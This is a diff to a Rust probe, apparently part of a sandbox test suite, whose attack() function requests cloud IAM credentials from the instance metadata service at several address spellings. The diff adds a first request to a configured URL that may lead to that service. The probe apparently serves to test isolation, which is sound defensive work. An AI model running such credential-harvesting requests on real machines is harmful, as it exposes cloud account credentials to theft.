@@ -1,4 +1,5 @@
-//! A probe that asks for the credentials of the machine it runs on, in several spellings of the metadata service's address.
+//! A probe that asks for the credentials of the machine it runs on: at the configured URL, whose name may lead to the metadata service, then
+//! in several spellings of the service's address.
 
 use skysail_guest_sdk::Result;
 use skysail_probe::http::{Request, report, request, send};
@@ -15,7 +16,9 @@ const HOSTS: [&str; 6] = [
 ];
 
 fn attack() -> Result<String> {
-    let ask = |host| Request { url: format!("http://{host}/latest/meta-data/iam/security-credentials/"), ..request() };
-    let results: Vec<_> = HOSTS.into_iter().map(|host| send(&ask(host))).collect();
+    let named = Some(request()).filter(|request| !request.url.is_empty());
+    let spelt =
+        |host| Request { url: format!("http://{host}/latest/meta-data/iam/security-credentials/"), ..request() };
+    let results: Vec<_> = named.into_iter().chain(HOSTS.map(spelt)).map(|request| send(&request)).collect();
     Ok(report(&results))
 }
